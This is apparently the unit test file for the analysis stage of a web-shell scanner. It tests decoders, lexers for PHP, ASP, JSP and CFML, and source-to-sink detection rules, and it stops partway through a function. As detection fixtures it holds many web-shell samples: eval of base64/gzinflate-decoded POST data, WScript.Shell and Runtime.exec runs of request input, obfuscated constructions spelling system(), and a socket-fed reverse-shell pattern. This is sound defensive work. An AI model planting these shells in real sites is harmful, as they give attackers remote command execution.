/*
 * test_lang.c - the analysis stage piece by piece: decoders and their
 * bounds, each lexer's normalised tokens, the page splitter's language
 * choice, source-to-sink explanations, sanitizers and routers that must
 * stay quiet, the prefilter, statistics, and how the stage's reasons
 * combine with the others into one finding.
 */
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#include "core/finding.h"
#include "lang/analyze.h"
#include "test.h"

/* ---- decoders ---- */

static void test_base64_hex_url(void) {
  unsigned char out[64];
  CHECK(lang_dec_base64((const unsigned char *)"ZXZhbA==", 8, out, sizeof out) == 4 && memcmp(out, "eval", 4) == 0);
  /* PHP's lenient decoding skips bytes outside the alphabet */
  CHECK(lang_dec_base64((const unsigned char *)"ZX\nZh*bA", 8, out, sizeof out) == 4 && memcmp(out, "eval", 4) == 0);
  CHECK(lang_dec_base64((const unsigned char *)"ZXZhbA==", 8, out, 2) == -1); /* cap */
  CHECK(lang_dec_hex((const unsigned char *)"6576616C", 8, out, sizeof out) == 4 && memcmp(out, "eval", 4) == 0);
  CHECK(lang_dec_hex((const unsigned char *)"657", 3, out, sizeof out) == -1);
  CHECK(lang_dec_hex((const unsigned char *)"zz", 2, out, sizeof out) == -1);
  CHECK(lang_dec_url((const unsigned char *)"%65v%61l+x%", 11, out, sizeof out) == 7 && memcmp(out, "eval x%", 7) == 0);
  unsigned char r[] = "Hello, World";
  lang_dec_rot13(r, 12);
  CHECK(memcmp(r, "Uryyb, Jbeyq", 12) == 0);
  lang_dec_rot13(r, 12);
  lang_dec_rev(r, 12);
  CHECK(memcmp(r, "dlroW ,olleH", 12) == 0);
}

static size_t deflate_raw(const unsigned char *in, size_t n, unsigned char *out, size_t cap, int wbits) {
  z_stream z;
  memset(&z, 0, sizeof z);
  deflateInit2(&z, 9, Z_DEFLATED, wbits, 8, Z_DEFAULT_STRATEGY);
  z.next_in = (unsigned char *)(uintptr_t)in;
  z.avail_in = (uInt)n;
  z.next_out = out;
  z.avail_out = (uInt)cap;
  deflate(&z, Z_FINISH);
  size_t got = z.total_out;
  deflateEnd(&z);
  return got;
}

static void test_inflate_and_bomb(void) {
  unsigned char comp[4096], out[256];
  const char *text = "system($_GET['c']);";
  int wbits[] = {-15, 15, 31};
  for (int i = 0; i < 3; i++) {
    size_t n = deflate_raw((const unsigned char *)text, strlen(text), comp, sizeof comp, wbits[i]);
    CHECK(lang_dec_inflate(comp, n, wbits[i], out, sizeof out) == (long)strlen(text));
    CHECK(memcmp(out, text, strlen(text)) == 0);
  }
  CHECK(lang_dec_inflate((const unsigned char *)"junk", 4, -15, out, sizeof out) == -1);
  /* 1 MiB of zeros: stops at the cap instead of growing */
  unsigned char *zeros = calloc(1, 1 << 20);
  size_t n = deflate_raw(zeros, 1 << 20, comp, sizeof comp, -15);
  CHECK(lang_dec_inflate(comp, n, -15, out, sizeof out) == -2);
  /* through the budget: the bound is reported, nothing decoded */
  arena a = {0};
  decode_budget b = {.remaining = 64 << 10};
  size_t len;
  CHECK(lang_decode_apply(DEC_GZINFLATE, comp, n, &a, &len, &b) == UINT32_MAX);
  CHECK(b.exhausted && strcmp(b.why, "decoded-size limit") == 0);
  CHECK(lang_decode_apply(DEC_BASE64, (const unsigned char *)"ZXZhbA==", 8, &a, &len, &b) == UINT32_MAX);
  decode_budget ok = {.remaining = 2 << 20};
  uint32_t off = lang_decode_apply(DEC_GZINFLATE, comp, n, &a, &len, &ok);
  CHECK(off != UINT32_MAX && len == 1 << 20 && ok.remaining == 1 << 20);
  lang_arena_free(&a);
  free(zeros);
}

/* ---- lexers ---- */

typedef struct {
  tok_sink sink;
  char text[2048];
} collector;

/* Tokens as "kind:text" joined with spaces. */
static void collect(tok_sink *s, token *t) {
  collector *c = (collector *)s;
  static const char kinds[] = "IVSNOBE";
  size_t n = strlen(c->text);
  snprintf(c->text + n, sizeof c->text - n, "%s%c:%.*s", n ? " " : "", kinds[t->kind], (int)t->len,
           s->text.buf + t->off);
}

static const char *lex(const char *kind, const char *src) {
  static collector c;
  memset(&c, 0, sizeof c);
  c.sink.emit = collect;
  if (strcmp(kind, "PHP") == 0) lang_lex_php(&c.sink, (const unsigned char *)src, strlen(src), 0);
  else if (strcmp(kind, "CFM") == 0) lang_lex_cfml(&c.sink, (const unsigned char *)src, strlen(src), 0);
  else lang_lex_page(&c.sink, (const unsigned char *)src, strlen(src), kind);
  lang_arena_free(&c.sink.text);
  return c.text;
}

/* Script Encoder blocks and UTF-7 pages, as IIS decodes them. */
static void test_asp_page_decoders(void) {
  static const char enc[] = "#@~^LAAAAA==@#@&InkwKx/\177RAUN@#@&36\177m;O\177PI\1775E\177/YvE^J*@#@&AAAAAA==^#~@";
  unsigned char out[128];
  size_t used;
  long n = lang_dec_screnc((const unsigned char *)enc + 4, strlen(enc) - 4, out, sizeof out, &used);
  CHECK(n == 38 && memcmp(out, "\r\nResponse.End\r\nExecute Request(\"c\")\r\n", 38) == 0);
  CHECK(used == strlen(enc) - 4); /* the checksum and end marker are consumed */
  CHECK(lang_dec_screnc((const unsigned char *)"notablock", 9, out, sizeof out, &used) == -1);
  CHECK(lang_dec_screnc((const unsigned char *)enc + 4, strlen(enc) - 4, out, 5, &used) == 5); /* bounded */
  /* a double-byte character passes whole and takes no position */
  unsigned char page[256], *dec;
  size_t dlen;
  snprintf((char *)page, sizeof page, "<%%@ Language=VBScript.Encode %%><%%%s%%>x", enc);
  CHECK(lang_asp_unpack(page, strlen((char *)page), &dec, &dlen) == 1);
  CHECK(dlen > 40 && memmem(dec, dlen, "Execute Request(\"c\")\r\n%>x", 25) != NULL);
  free(dec);
  n = lang_dec_utf7((const unsigned char *)"+AGU-val(+ACI-c+ACI-) a+-b +2D3eAA-", 35, out, sizeof out);
  CHECK(n == 18 && memcmp(out, "eval(\"c\") a+b \xf0\x9f\x98\x80", 18) == 0); /* a surrogate pair */
  CHECK(lang_dec_utf7((const unsigned char *)"+AGUAdgBhAGw", 12, out, 2) == 2);
  static const char u7[] = "<%@ CodePage = 65000 %><%+AGU-xecute x%>";
  CHECK(lang_asp_unpack((const unsigned char *)u7, strlen(u7), &dec, &dlen) == 1);
  CHECK(memmem(dec, dlen, "<%execute x%>", 13) != NULL);
  free(dec);
  CHECK(lang_asp_unpack((const unsigned char *)"<% x %>", 7, &dec, &dlen) == 0);
}

static void test_lex_php(void) {
  CHECK_STREQ(lex("PHP", "<html><?php /* c */ $F = 'ev' . \"\\x61\\154\"; # x\n ?>tail<?= Eval($F) ?>"),
              "V:$F O:= S:ev O:. S:al E:; E:; I:eval O:( V:$F O:) E:;");
  CHECK_STREQ(lex("PHP", "<?php $s = \"a $x b\"; $h = <<<EOT\nline\nEOT;\n`ls`;"),
              "V:$s O:= S:a $x b E:; V:$h O:= S:line E:; B:ls E:;");
  CHECK_STREQ(lex("PHP", "<?php $a->b(1) === (int) $c;"), "V:$a O:-> I:b O:( N:1 O:) O:=== I:(cast) V:$c E:;");
  CHECK_STREQ(lex("PHP", "<?php echo \"\\u{65}\\x"), "I:echo S:e\\x"); /* unterminated at the end */
  /* the fast paths (memchr for quotes and comment ends, the operator index, the name table):
   * a quote after an odd run of backslashes is escaped, after an even run it closes */
  CHECK_STREQ(lex("PHP", "<?php $a = 'x\\\\' . 'it\\'s\\\\\\'q' . \"a\\\\\\\"b\";"),
              "V:$a O:= S:x\\ O:. S:it's\\'q O:. S:a\\\"b E:;");
  CHECK_STREQ(lex("PHP", "<?php /** a * b **/ x // c ?> y\n<?php # d\nz /* open"), "I:x E:; I:z");
  CHECK_STREQ(lex("PHP", "<?php a<=>b<<=c?->d**e**=f...g<>h::i"),
              "I:a O:<=> I:b O:<<= I:c O:?-> I:d O:* O:* I:e O:**= I:f O:... I:g O:<> I:h O::: I:i");
  CHECK_STREQ(lex("PHP", "<?php Ab_9\xc3\x89Z(\t\r\n 12)"), "I:ab_9\xc3\x89z O:( N:12 O:)");
  /* a base64 run quoted inside a string of the same quote (a damaged copy) stays in the
   * string; a closing quote followed by a short word ("x"or) is valid PHP and closes it */
  CHECK_STREQ(lex("PHP", "<?php $x = \"e(d(\"QUJD" "QUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJD\"));\";"),
              "V:$x O:= S:e(d(\"QUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJD\")); E:;");
  CHECK_STREQ(lex("PHP", "<?php $m == \"list\"or die(\"QUJD\");"),
              "V:$m O:== S:list I:or I:die O:( S:QUJD O:) E:;");
}

static void test_lex_pages(void) {
  /* VBScript: case folded, "" inside strings, line continuation, ' comments */
  CHECK_STREQ(lex("ASP", "<% EXECUTE Request(\"a\"\"b\") _\n  & x ' c\n%>"),
              "I:execute I:request O:( S:a\"b O:) O:& I:x E:\n E:\n E:;");
  /* the page directive picks the language of later blocks */
  CHECK_STREQ(lex("ASPX", "<%@ Page Language=\"VB\" %><%-- <% x %> --%><% Dim s = \"q\" %>"),
              "I:dim I:s O:= S:q E:\n E:;");
  CHECK_STREQ(lex("ASPX", "<script language=\"C#\" runat=\"server\">var p = @\"C:\\a\"\"b\";</script>"),
              "I:var I:p O:= S:C:\\a\"b E:; E:;");
  CHECK_STREQ(lex("JSP", "<%! int x = 1; %><jsp:scriptlet>s = \"\\u0041\\101\";</jsp:scriptlet>"),
              "I:int I:x O:= N:1 E:; E:; I:s O:= S:AA E:; E:;");
  /* a handler's body after its directive is code */
  CHECK_STREQ(lex("ASPX", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H { }"), "I:class I:h O:{ O:} E:;");
  CHECK_STREQ(lex("ASPX", "<p>no code here</p>"), "");
  /* an ASP file with no block at all is a VBScript fragment (a payload pasted into a page) */
  CHECK_STREQ(lex("ASP", "execute request(\"a\")"), "I:execute I:request O:( S:a O:) E:\n E:;");
  /* inside With, a leading-dot member is the With object's; a.b and text after End With are not */
  CHECK_STREQ(lex("ASP", "<% With Request\n x .Form(\"k\"), a.b\nEnd With\n.c %>"),
              "I:with I:request E:\n I:x I:request O:. I:form O:( S:k O:) O:, I:a O:. I:b E:\n I:end I:with E:\n O:. I:c E:\n E:;");
  /* Razor: @{ } and @functions { } are C#, @Code ... End Code VB; markup and @expr are not code */
  CHECK_STREQ(lex("ASPX", "<p>@x</p>@{ var s = \"}\"; }<i>a@b.c</i>@functions { int f() { return 1; } }"),
              "I:var I:s O:= S:} E:; E:; I:int I:f O:( O:) O:{ I:return N:1 E:; O:} E:;");
  CHECK_STREQ(lex("ASPX", "@Code\n Dim s = 1\nEnd Code"), "E:\n I:dim I:s O:= N:1 E:\n E:\n E:;");
  /* a WCF service's code follows its ServiceHost directive */
  CHECK_STREQ(lex("ASPX", "<%@ ServiceHost Language=\"C#\" Service=\"S\" %>\nclass S { }"), "I:class I:s O:{ O:} E:;");
}

/* ---- analysis ---- */

static lang_ctx *ctx;
static lang_result res;

static const lang_detection *analyze(const char *kind, const char *src) {
  lang_analyze(ctx, (const unsigned char *)src, strlen(src), kind, &res);
  return res.ndet ? &res.det[0] : NULL;
}

static void test_lex_cfml(void) {
  CHECK_STREQ(lex("CFM", "<p><!--- <cfset no=1> ---><cfset x = url.c & \"a\"\"b\">"),
              "I:x O:= I:url O:. I:c O:& S:a\"b E:;");
  CHECK_STREQ(lex("CFM", "<cfexecute name=\"cmd.exe\" arguments=\"/c #form.c#\" timeout=5>"),
              "I:cfexecute O:( I:cfattr.name O:= S:cmd.exe O:, I:cfattr.arguments O:= S:/c  O:& O:( I:form O:. "
              "I:c O:) O:, I:cfattr.timeout O:= S:5 O:) E:;");
  CHECK_STREQ(lex("CFM", "<cffile action=\"upload\" destination=\"#d#\">"),
              "I:cffile.upload O:( I:cfattr.action O:= S:upload O:, I:cfattr.destination O:= O:( I:d O:) O:) E:;");
  CHECK_STREQ(lex("CFM", "<cfquery name=q>\n select #form.s# </cfquery>"),
              "I:cfquery O:( I:cfattr.name O:= S:q O:, I:cfattr.sql O:= S:\n select  O:& O:( I:form O:. I:s O:) O:) E:;");
  CHECK_STREQ(lex("CFM", "<cfscript>// c\n a = 'it''s ##1'; /* x */</cfscript><cfoutput>#b(1)#</cfoutput>"),
              "I:a O:= S:it's #1 E:; E:; I:cfoutput O:( O:) E:; I:b O:( N:1 O:) E:;");
  CHECK_STREQ(lex("CFM", "<cfoutput>color: #fff</cfoutput> #x#"), "I:cfoutput O:( O:) E:;"); /* a lone # */
}

static void test_source_to_sink(void) {
  const lang_detection *d = analyze("PHP", "<?php\n\neval(gzinflate(base64_decode($_POST['z0'])));");
  CHECK(d && strcmp(d->rule, "shellsift.lang.code-exec") == 0 && d->score >= 90);
  CHECK(d && strcmp(d->description,
                    "request input $_POST['z0'] reaches eval() after base64_decode \xe2\x86\x92 gzinflate (line 3)") == 0);
  /* constant propagation through .= and a variable function */
  d = analyze("PHP", "<?php $a = 'sys'; $a .= 'tem'; $a($_GET['x']);");
  CHECK(d && strstr(d->description, "system() through variable function $a"));
  d = analyze("ASP", "<% Set o = CreateObject(\"WScript.Shell\")\no.Run Request.Form(\"c\") %>");
  CHECK(d && strcmp(d->rule, "shellsift.lang.command-exec") == 0 && strstr(d->description, "WScript.Shell.Run()"));
  d = analyze("JSP", "<% String c = request.getParameter(\"c\"); Runtime r = Runtime.getRuntime(); r.exec(c); %>");
  CHECK(d && strstr(d->description, "request.getParameter(\"c\") reaches Runtime.exec()"));
  d = analyze("ASPX", "<% var b = Convert.FromBase64String(Request[\"k\"]); Assembly.Load(b); %>");
  CHECK(d && strcmp(d->rule, "shellsift.lang.code-load") == 0 && strstr(d->description, "after Convert.FromBase64String"));
  /* a payload decoded from a constant is analysed again */
  d = analyze("PHP", "<?php eval(base64_decode('c3lzdGVtKCRfR0VUWyJjIl0pOw=='));");
  CHECK(d && strstr(d->description, "code hidden by base64_decode and run by eval() (line 1): request input $_GET[\"c\"] reaches system()"));
}

/* Classic ASP, ASP.NET, JSP and CFML flows added for real shells. */
static void test_asp_family(void) {
  const lang_detection *d = analyze("ASPX", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"])%>");
  CHECK(d && strstr(d->description, "Request.Item[\"z\"] reaches eval()")); /* first token after a directive */
  d = analyze("ASP", "<%If Request(\"k\")<>\"\" Then Session(\"k\")=Request(\"k\")\nExecute Session(\"k\")%>");
  CHECK(d && d->score >= 90 && strstr(d->description, "reaches Execute"));
  d = analyze("ASP", "<%Execute(StrReverse(\")\"\"c\"\"(tseuqer lave\"))%>");
  CHECK(d && strstr(d->description, "hidden by strrev"));
  d = analyze("ASPX", "<script runat=server>void F(){ new System.Diagnostics.ProcessStartInfo(\"cmd\", T.Text); }"
                      "</script><asp:TextBox id=\"T\" runat=\"server\"/>");
  CHECK(d && strstr(d->description, "the form control T reaches ProcessStartInfo"));
  d = analyze("ASPX", "<script runat=server>void F(){ var c = new SqlCommand(Request.Form[\"q\"], k); }</script>");
  CHECK(d && strcmp(d->rule, "shellsift.lang.sql-console") == 0 && d->score < 70); /* dual-use: medium */
  d = analyze("JSP", "<% if (request.getParameter(\"a\") != null) { new java.io.File(p).listFiles();"
                     " new java.io.FileWriter(p); Runtime.getRuntime().exec(c); } %>");
  CHECK(d && strcmp(d->rule, "shellsift.lang.kit") == 0 && d->score >= 80 && strstr(d->description, "runs commands"));
  d = analyze("CFM", "<cfset c = form.cmd><cfexecute name=\"sh\" arguments=\"-c #c#\">");
  CHECK(d && strstr(d->description, "form.cmd reaches <cfexecute>"));
  CHECK(!analyze("CFM", "<cfexecute name=\"/usr/bin/uptime\" variable=\"u\"><cfoutput>#url.x#</cfoutput>"));
  /* curly quotes from a word processor (UTF-8 and GBK) still delimit strings */
  d = analyze("ASP", "<% Set o = CreateObject(\xe2\x80\x9cMSScriptControl.ScriptControl\xe2\x80\x9d)\n"
                     "o.AddCode(Request(\xa1\xb0" "c\xa1\xb1)) %>");
  CHECK(d && strstr(d->description, "ScriptControl.AddCode()"));
  CHECK(!analyze("ASP", "<% Set f = fso.GetFolder(Server.MapPath(\".\")) : For Each s In f.SubFolders : Next %>"));
}

static void test_quiet_cases(void) {
  CHECK(!analyze("PHP", "<?php system('uptime ' . escapeshellarg($_GET['h']));"));
  CHECK(!analyze("PHP", "<?php $n = (int) $_GET['n']; system('ls ' . $n);"));
  CHECK(!analyze("PHP", "<?php $a = $_GET['action']; $app->$a();"));
  CHECK(!analyze("PHP", "<?php include __DIR__ . '/lang/' . $_GET['l'] . '.php';"));
  CHECK(!analyze("PHP", "<?php eval('?>' . file_get_contents($cache));"));
  CHECK(!analyze("PHP", "<?php function f($x) { exec($x); } $q = $_GET['q']; echo $q;"));
  CHECK(!analyze("JSP", "<% String who = request.getParameter(\"w\"); Runtime.getRuntime().exec(\"uptime\"); %>"));
}

static void test_bounds(void) {
  static char src[65536] = "<?php ";
  /* eval(base64_decode(...)) nested deeper than the default limit (12) */
  static char inner[60000] = "echo 1;";
  for (int i = 0; i < 14; i++) {
    static char enc[40000];
    size_t n = strlen(inner), o = 0;
    static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    for (size_t k = 0; k < n; k += 3) {
      unsigned v = (unsigned char)inner[k] << 16 | (k + 1 < n ? (unsigned char)inner[k + 1] << 8 : 0) |
                   (k + 2 < n ? (unsigned char)inner[k + 2] : 0);
      enc[o++] = b64[v >> 18 & 63], enc[o++] = b64[v >> 12 & 63];
      enc[o++] = k + 1 < n ? b64[v >> 6 & 63] : '=', enc[o++] = k + 2 < n ? b64[v & 63] : '=';
    }
    enc[o] = '\0';
    snprintf(inner, sizeof inner, "eval(base64_decode('%s'));", enc);
  }
  strcat(src, inner);
  analyze("PHP", src);
  CHECK(res.limited && strcmp(res.limit_why, "decode depth limit") == 0);
  lang_limits deep = {16, LANG_DEFAULT_DECODED, 0};
  lang_ctx *c8 = lang_ctx_new(&deep);
  lang_analyze(c8, (const unsigned char *)src, strlen(src), "PHP", &res);
  CHECK(!res.limited && res.ndet == 1 && strcmp(res.det[0].rule, "shellsift.lang.decoded-payload") == 0);
  lang_ctx_free(c8);
}

/* PHP folding and flow: what each new step must read, and what must stay quiet. */
static void test_php_fold_and_flow(void) {
  const lang_detection *d;
  /* 'Zz'++ is 'AAa' (PHP's string increment), proved by the name it unlocks */
  d = analyze("PHP", "<?php $t = 'Zz'; $t++; $f = str_replace('AAa', 'system', 'AAa'); $f($_GET['c']);");
  CHECK(d && strstr(d->description, "reaches system()"));
  /* an array's text is "Array"; its first letter, stepped, spells a name */
  d = analyze("PHP", "<?php $_ = []; $_ = \"$_\"; $a = $_[0]; $a++; $f = $a . 'ase64_decode'; "
                     "eval($f($_POST['x']));");
  CHECK(d && strstr(d->description, "reaches eval() after base64_decode"));
  /* constant comparisons: true is 1 */
  d = analyze("PHP", "<?php $a = array('eval', 'system'); $f = $a[('b' > 'a')]; $f($_GET['c']);");
  CHECK(d && strstr(d->description, "system()"));
  d = analyze("PHP", "<?php $a = array('system', 'eval'); $f = $a['!' == '@']; $f($_GET['c']);");
  CHECK(d && strstr(d->description, "system()"));
  /* a double-quoted string of constant variables is a constant */
  d = analyze("PHP", "<?php $v = '$_GET'; eval(\"system({$v}['c']);\");");
  CHECK(d && strstr(d->description, "reaches system()"));
  /* ${'_' . $x}: a superglobal chosen at run time */
  d = analyze("PHP", "<?php ${'_' . $k}['f'](${'_' . $k}['a']);");
  CHECK(d && strstr(d->description, "is called as a function"));
  /* flow: a variable holds input only from where it is assigned on */
  CHECK(!analyze("PHP", "<?php $x = $_GET['a']; $x = 'uptime'; system($x);"));
  CHECK(!analyze("PHP", "<?php function f() { $c = 'id'; system($c); $c = $_GET['x']; echo $c; }"));
  /* what a socket received, run: a remote shell */
  d = analyze("PHP", "<?php $s = fsockopen('192.0.2.1', 80); $c = fgets($s); system($c);");
  CHECK(d && strcmp(d->rule, "shellsift.lang.reverse-shell") == 0 && strstr(d->description, "fgets()"));
  CHECK(!analyze("PHP", "<?php $h = fopen('list.txt', 'r'); $c = fgets($h); echo $c;"));
  /* a callable with the application's own prefix is not chosen by the request; one a sink starts is */
  CHECK(!analyze("PHP", "<?php call_user_func('show_' . $_GET['p']);"));
  d = analyze("PHP", "<?php call_user_func('sys' . $_GET['p'], $_GET['c']);");
  CHECK(d && strcmp(d->rule, "shellsift.lang.callback") == 0);
  /* written, then loaded */
  d = analyze("PHP", "<?php file_put_contents('t.txt', $_POST['c']); require 't.txt';");
  CHECK(d && strstr(d->description, "run as code by require"));
  CHECK(!analyze("PHP", "<?php file_put_contents('t.txt', $_POST['c']); require 'other.php';"));
}

/* A decoder of the file's own (characters taken apart and rebuilt) run into a code sink on a constant. */
static void test_php_own_decoder(void) {
  const char *loop = "<?php function u($s) { $o = ''; for ($i = 0; $i < strlen($s); $i++) $o .= chr(ord($s[$i]) ^ 7); "
                     "return $o; }\n";
  char src[512];
  snprintf(src, sizeof src, "%seval(u('bjv~kk/#XS`TZ\\'d\\'Z.<'));", loop);
  const lang_detection *d = analyze("PHP", src);
  CHECK(d && strcmp(d->rule, "shellsift.lang.decoded-payload") == 0 && d->score == 55 &&
        strstr(d->description, "eval() runs code hidden by decode loop") && /* run (loop_run.c): no sink inside */
        strstr(d->description, "(line 2)"));
  /* through a variable, and into create_function() */
  snprintf(src, sizeof src, "%s$c = u('bjv~kk/#XS`TZ\\'d\\'Z.<');\n$f = create_function('', $c); $f();", loop);
  d = analyze("PHP", src);
  CHECK(d && strstr(d->description, "create_function() runs code hidden by decode loop"));
  /* the same helper printing, or run on a short flag, is no payload */
  snprintf(src, sizeof src, "%secho u('bjv~kk/#XS`TZ\\'d\\'Z.<');", loop);
  CHECK(!analyze("PHP", src));
  snprintf(src, sizeof src, "%seval(u('x'));", loop);
  CHECK(!analyze("PHP", src));
  /* a helper returning a variable built from its parameter is not the parameter (no inlining) */
  snprintf(src, sizeof src, "%s$k = u('tb~sbj'); echo $k;", loop);
  CHECK(!analyze("PHP", src));
  /* a decoder or a runner that is a method of the file's own class, called through the class or an object */
  d = analyze("PHP", "<?php class K { static function d($s) { return str_rot13($s); } }\n$f = K::d('flfgrz'); $f($_GET['c']);");
  CHECK(d && strstr(d->description, "reaches system() through variable function $f"));
  d = analyze("PHP", "<?php $o = new R(); $o->go($_POST['c']);\nclass R { function go($c) { system($c); } }");
  CHECK(d && strstr(d->description, "reaches system() (inside go())"));
  /* ... not a method that runs a string it builds (a compiled template) */
  CHECK(!analyze("PHP", "<?php class T { function r($n) { $c = file_get_contents(md5($n)); eval('?>' . $c); } }\n"
                        "$t = new T(); $t->r($_GET['p']);"));
  /* array_map() of a converter over a constant list, and a loop over character codes */
  d = analyze("PHP", "<?php $f = implode(array_map('strrev', str_split('ystsme', 2))); $f($_GET['c']);");
  CHECK(d && strstr(d->description, "reaches system() through variable function $f"));
  d = analyze("PHP", "<?php $f = join('', array_map('chr', array('115', 121, 115, 116, 101, 109))); $f($_GET['c']);");
  CHECK(d && strstr(d->description, "reaches system()"));
  d = analyze("PHP", "<?php $f = ''; foreach (array(97, 115, 115) as $n) { $f .= chr($n); } $f($_POST['c']);");
  CHECK(d && strcmp(d->rule, "shellsift.lang.built-name-call") == 0);
  CHECK(!analyze("PHP", "<?php foreach (array('trim', 'strip_tags') as $f) { $v = $f($_POST['c']); } echo $v;"));
  /* a character loop at the top of the page unpacking a constant into eval(), with or without braces */
  d = analyze("PHP", "<?php $d = 'tr~xn{nzr~{so}jxytj'; $o = '';\nfor ($i = 0; $i < strlen($d); $i++) $o .= $d[$i] ^ 'k';\n"
                     "$c = $o; eval($c);");
  CHECK(d && strstr(d->description, "eval() runs code hidden by decode loop") && strstr(d->description, "(line 3)"));
  CHECK(!analyze("PHP", "<?php $d = 'tr~xn{nzr~{so}jxytj'; $o = '';\nfor ($i = 0; $i < strlen($d); $i++) $o .= $d[$i] ^ 'k';\n"
                        "echo $o; $o = 'return 1;'; eval($o);"));
  /* chunks glued back together by a loop (foreach, or for over the indices) before they are decoded and run */
  d = analyze("PHP", "<?php $a = array('c3lzdGVt', 'KCRfR0VU', 'WyJjIl0p', 'Ow=='); $p = '';\n"
                     "foreach ($a as $x) {\n$p .= $x;\n}\neval(base64_decode($p));");
  CHECK(d && strstr(d->description, "reaches system()"));
  d = analyze("PHP", "<?php $a = array('c3lzdGVt', 'KCRfR0VU', 'WyJjIl0p', 'Ow=='); $p = '';\n"
                     "for ($i = 0; $i < count($a); $i++) $p .= $a[$i];\neval(base64_decode($p));");
  CHECK(d && strstr(d->description, "reaches system()"));
  /* a helper that calls the function its parameter names: the name is at the call site */
  d = analyze("PHP", "<?php function x($f, $a) { return call_user_func($f, $a); }\nx('pass' . 'thru', $_GET['c']);");
  CHECK(d && strstr(d->description, "reaches passthru(), called by name through x() (line 2)"));
  CHECK(!analyze("PHP", "<?php function x($f, $a) { $g = 'show_' . $f; return $g($a); } x('page', $_GET['c']);"));
  CHECK(!analyze("PHP", "<?php function x($f, $a) { return $f($a); } echo x('htmlspecialchars', $_GET['c']);"));
  /* the prefilter reads a big file that calls a variable and carries a payload in a private alphabet */
  static char big[6000];
  memset(big, '#', sizeof big);
  memcpy(big, "<?php $t = '", 12);
  memcpy(big + sizeof big - 16, "'; $f($t); ?>\n\n", 15);
  big[sizeof big - 1] = '\n';
  CHECK(lang_prefilter((const unsigned char *)big, sizeof big, 1));
  for (size_t i = 12; i < sizeof big - 16; i += 20) big[i] = ' '; /* prose, not a payload */
  CHECK(!lang_prefilter((const unsigned char *)big, sizeof big, 1));
}

static void test_prefilter_and_stats(void) {
  const char *lib = "<?php class A { function b($x) { return eval_me($x); } }";
  CHECK(!lang_prefilter((const unsigned char *)lib, strlen(lib), 1));
  CHECK(lang_prefilter((const unsigned char *)"<?php $_GET;", 12, 1));
  CHECK(lang_prefilter((const unsigned char *)"<?php EVAL(STR_ROT13('x'));", 27, 1));
  /* eval of a literal: read in a small file (it may be assembled code), not in a big one without a blob */
  CHECK(lang_prefilter((const unsigned char *)"<?php eval('x');", 16, 1));
  char big[9000];
  memset(big, ' ', sizeof big);
  memcpy(big, "<?php eval('x');", 16);
  CHECK(!lang_prefilter((const unsigned char *)big, sizeof big, 1));
  /* preg_replace runs code only with the e modifier: a big library file that
   * calls it beside a decoder is skipped, unless a pattern has that modifier */
  static const struct { const char *code; int read; } preg[] = {
      {"<?php $s = preg_replace('/%([0-9a-f]{2})/i', '', urldecode($q));", 0},
      {"<?php $s = preg_replace('/.*/e', urldecode($q), '');", 1},
      {"<?php $s = preg_replace(\"#x#ie\", urldecode($q), '');", 1},
      {"<?php $s = preg_replace(\"\\x2f.*\\x2f\\x65\", urldecode($q), '');", 1},
      {"<?php $s = assert(urldecode($q));", 1},
  };
  static char lib_file[20000];
  for (size_t i = 0; i < sizeof preg / sizeof preg[0]; i++) {
    memset(lib_file, ' ', sizeof lib_file);
    memcpy(lib_file, preg[i].code, strlen(preg[i].code));
    CHECK(lang_prefilter((const unsigned char *)lib_file, sizeof lib_file, 1) == preg[i].read);
    CHECK(lang_prefilter((const unsigned char *)preg[i].code, strlen(preg[i].code), 1)); /* small: read */
  }
  /* hidden request sources and sinks that name no superglobal */
  static const char *const hidden[] = {
      "<?php $k(${'_PO'.'ST'}['a']);", "<?php $x = ${$n};", "<?php eval($GLOBALS['_POST']['a']);",
      "<?php $r = $_SERVER; echo $r['HTTP_X'];", "<?php echo $_SERVER['QUERY_STRING'];",
      "<?php $u = $a('', $q); $u();", "<?php $f = create_function('', $b);",
      "<?php fputs(fopen('a.php', 'w'), base64_decode('PD9waHAg'));",
      "<?php eval(file_get_contents('http://example.invalid/x'));", "<?php $/*x*/{'_GET'}['a'];",
      "<?php ${('!' ^ '~')}();", "<?php file_put_contents('x', \"\\x7fELF\\x02\");"};
  for (size_t i = 0; i < sizeof hidden / sizeof hidden[0]; i++)
    CHECK(lang_prefilter((const unsigned char *)hidden[i], strlen(hidden[i]), 1));
  /* what library code has plenty of and no shell needs alone */
  static const char *const quiet[] = {"<?php echo $_SERVER['SCRIPT_NAME'];", "<?php $this->x = $GLOBALS['config'];",
                                      "<?php $s = \"${a}\";"};
  for (size_t i = 0; i < sizeof quiet / sizeof quiet[0]; i++)
    CHECK(!lang_prefilter((const unsigned char *)quiet[i], strlen(quiet[i]), 1));
  CHECK(lang_prefilter((const unsigned char *)"<% x = REQUEST(1) %>", 20, 0));
  char blob[200];
  for (int i = 0; i < 199; i++) blob[i] = "Ab3+/9Zq"[i % 8];
  CHECK(lang_stats_is_blob(blob, 199) && !lang_stats_is_blob("function_name_that_is_long_but_plain_words_only_here_ok_ok_ok_ok", 64));
  /* a payload wrapped every 40 characters with CR LF is still one; line breaks alone are not */
  char wrapped[210], breaks[100];
  for (int i = 0; i < 210; i++) wrapped[i] = i % 42 == 40 ? '\r' : i % 42 == 41 ? '\n' : "Ab3+/9Zq"[i % 8];
  memset(breaks, '\n', sizeof breaks);
  CHECK(lang_stats_is_blob(wrapped, sizeof wrapped) && !lang_stats_is_blob(breaks, sizeof breaks));
  /* the prefilter's size tests are of the code after an image or a page of markup */
  char img[6000];
  const char *shell = "<?php $f = $x; $f($y);";
  for (size_t i = 0; i < sizeof img; i++) img[i] = "ab \n"[i % 4]; /* nothing the prefilter passes on its own */
  memcpy(img + 100, "<?\x01\"", 4); /* the bytes "<?" in binary data open no code */
  memcpy(img + sizeof img - strlen(shell), shell, strlen(shell));
  CHECK(lang_php_code_start((const unsigned char *)img, sizeof img) == sizeof img - strlen(shell));
  CHECK(lang_prefilter((const unsigned char *)img, sizeof img, 1));
  CHECK(lang_php_code_start((const unsigned char *)"$a = 1;", 7) == 7); /* no tag: none */
  lang_stats st;
